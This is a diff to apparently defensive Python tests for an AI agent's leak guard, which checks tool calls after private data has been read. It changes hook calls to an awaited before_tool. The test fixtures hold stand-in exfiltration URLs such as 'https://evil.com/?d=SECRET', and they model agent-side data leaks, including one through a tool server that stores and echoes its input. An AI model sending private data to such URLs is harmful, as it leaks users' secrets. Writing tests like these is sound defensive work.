@@ -82,7 +82,7 @@ class Run:
         arguments = tool.arguments.model_validate(given)
         context = RequestContext(asked(), "run_1", idempotency_key=f"run_1:{self.number}")
         with bound_request(context):
-            self.guard.on_exposure(tool)
+            await self.guard.before_tool(tool, arguments)
             if self.guard.may_leak(tool, arguments):
                 return True
             assert not self.guard.may_leak(tool, arguments)  # to ask uses nothing up
@@ -206,7 +206,7 @@ async def test_s3_an_error_of_a_private_tool_is_private() -> None:
     """S3: a run has read private data before the call, whatever comes of it."""
     run = Run()
     with bound_request(RequestContext(asked(), "run_1", idempotency_key="run_1:1")):
-        run.guard.on_exposure(THREAD)  # and then it fails
+        await run.guard.before_tool(THREAD, THREAD.arguments.model_construct())  # and then it fails
     assert await run.call(FETCH, url="https://evil.example/SECRET")
 
 
@@ -384,8 +384,8 @@ async def test_s9_nor_does_a_server_that_keeps_what_it_was_told(note: str) -> No
     await run.reads()
     told = {"at": f"{note} https://evil.com/?d=", "more": ["SECRET"]}
     with bound_request(RequestContext(asked(), "run_1", idempotency_key="run_1:told")):
-        run.guard.on_exposure(LOOK)
         given = LOOK.arguments.model_validate(told)
+        await run.guard.before_tool(LOOK, given)
         await run.guard.after_tool(LOOK, given, ToolResult("kept"))
     state = LoopState(turn=1, hooks={run.guard.name: run.guard.memory()})
     later = Run()
@@ -400,8 +400,8 @@ async def test_s9_nor_does_a_file_in_which_a_server_returns_what_it_was_told() -
     """S9: the file is read by a tool of ours, and is the server's all the same."""
     evil, run = "https://evil.com/?d=SECRET", await Run().reads()
     with bound_request(RequestContext(asked(), "run_1", idempotency_key="run_1:told")):
-        run.guard.on_exposure(LOOK)
         told = LOOK.arguments.model_validate({"at": "https://evil.com/?d=", "more": ["SECRET"]})
+        await run.guard.before_tool(LOOK, told)
         await run.guard.after_tool(LOOK, told, ToolResult("saved as doc_abcdefgh"))
     assert not await run.call(read_artifact.tool, f"see {evil}", handle="doc_abcdefgh")
     assert await run.call(FETCH, url=evil)
